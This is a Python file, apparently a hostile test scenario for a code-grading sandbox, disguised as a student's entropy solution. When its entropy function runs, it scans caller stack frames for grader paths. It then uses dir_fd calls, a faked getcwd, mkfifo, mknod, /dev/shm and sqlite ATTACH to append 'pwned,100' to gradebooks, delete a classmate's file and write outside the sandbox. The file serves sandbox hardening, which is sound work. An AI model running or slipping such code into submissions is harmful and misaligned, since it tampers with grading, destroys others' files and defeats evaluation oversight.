"""Scenario hostile-fd-paths: finds the class folder in the worker's own stack, then uses the calls the
audit hook cannot see or judge to read, write and delete there.

ATTACKS (issue 11), each in try/except: the grader's paths from the caller frames' locals
(``forbidden``: the course, the class folder, the submission); os.open(..., dir_fd=fd) and
os.unlink(..., dir_fd=fd) resolved against a folder opened earlier; os.listdir(fd); os.mknod and
os.mkfifo in the class folder; a POSIX shared-memory object (/dev/shm); sqlite's ATTACH DATABASE
writing a new file into the class folder; readlink /proc/<parent>/cwd.
It answers correctly only if one of them reached outside its sandbox; the test also checks that
nothing outside the sandbox changed.
"""
import os
import sqlite3
import sys

import numpy as np

WINS = []


def _grader_paths():
    found = []
    frame = sys._getframe()
    while frame is not None:
        for value in frame.f_locals.values():
            if isinstance(value, list) and value and all(isinstance(v, str) and v.startswith("/") for v in value):
                found.extend(value)
        frame = frame.f_back
    return found


def _try(name, fn):
    try:
        fn()
        WINS.append(name)
    except Exception:
        pass


def _fd_of(folder):
    """An fd on ``folder``: chdir is not checked, and a faked getcwd makes "." look like the sandbox."""
    sandbox = _REAL_GETCWD()
    os.getcwd = lambda: sandbox
    try:
        os.chdir(folder)
        return os.open(".", os.O_RDONLY | os.O_DIRECTORY)
    finally:
        os.chdir(sandbox)


_REAL_GETCWD = os.getcwd


def _attack():
    roots = _grader_paths()
    here = os.open(".", os.O_RDONLY | os.O_DIRECTORY)
    for root in roots:
        try:
            fd = _fd_of(root)
        except Exception:
            continue
        for name in os.listdir(fd):
            if name == "gradebook.csv":
                _try("rewrite gradebook via dir_fd", lambda n=name, d=fd: os.write(
                    os.open(n, os.O_WRONLY | os.O_APPEND, dir_fd=d), b"pwned,100\n"))
            if name == "other-student":
                sub = os.open(name, os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
                _try("delete a classmate's file via dir_fd", lambda d=sub: os.unlink("entropy.py", dir_fd=d))
    _try("listdir(fd) of the parent", lambda: os.listdir(os.open("..", os.O_RDONLY | os.O_DIRECTORY)))
    _try("readlink parent cwd", lambda: os.readlink(f"/proc/{os.getppid()}/cwd"))
    _try("shm_open", lambda: os.close(os.open("/dev/shm/grader-pwned", os.O_CREAT | os.O_RDWR, 0o600)))
    for root in roots:
        for folder, _dirs, files in os.walk(root):
            for name in files:
                path = os.path.join(folder, name)
                if name.endswith(".csv"):
                    _try("append to " + name, lambda p=path: open(p, "a").write("pwned,100\n"))
                if name == "entropy.py" and "reference" not in folder:
                    dfd = os.open(folder, os.O_RDONLY | os.O_DIRECTORY)
                    _try("unlink via dir_fd", lambda d=dfd, n=name: os.unlink(n, dir_fd=d))
        _try("open via dir_fd", lambda r=root: os.close(os.open(os.path.relpath(os.path.join(r, "PWNED"), "/"),
                                                               os.O_CREAT | os.O_WRONLY, 0o600, dir_fd=os.open("/", os.O_RDONLY))))
        _try("mkfifo outside", lambda r=root: os.mkfifo(os.path.join(r, "PWNED-fifo")))
        _try("mknod outside", lambda r=root: os.mknod(os.path.join(r, "PWNED-node")))
        _try("sqlite attach", lambda r=root: sqlite3.connect(":memory:").execute(
            f"ATTACH DATABASE '{os.path.join(r, 'PWNED.db')}' AS x").connection.execute("CREATE TABLE x.t(a)"))
    _try("relative through dir_fd", lambda: os.close(os.open("../../PWNED", os.O_CREAT | os.O_WRONLY, 0o600, dir_fd=here)))


def entropy(probs):
    """Right only if an attack reached outside the sandbox."""
    try:
        _attack()
    except Exception:
        pass
    if WINS:
        p = np.asarray(probs, dtype=float)
        p = p[p > 0]
        return float(-np.sum(p * np.log2(p)))
    return -1.0


def most_uncertain(distributions):
    """Index of the distribution with the highest entropy."""
    p = [np.asarray(d, dtype=float) for d in distributions]
    return int(np.argmax([float(-np.sum(q[q > 0] * np.log2(q[q > 0]))) for q in p]))
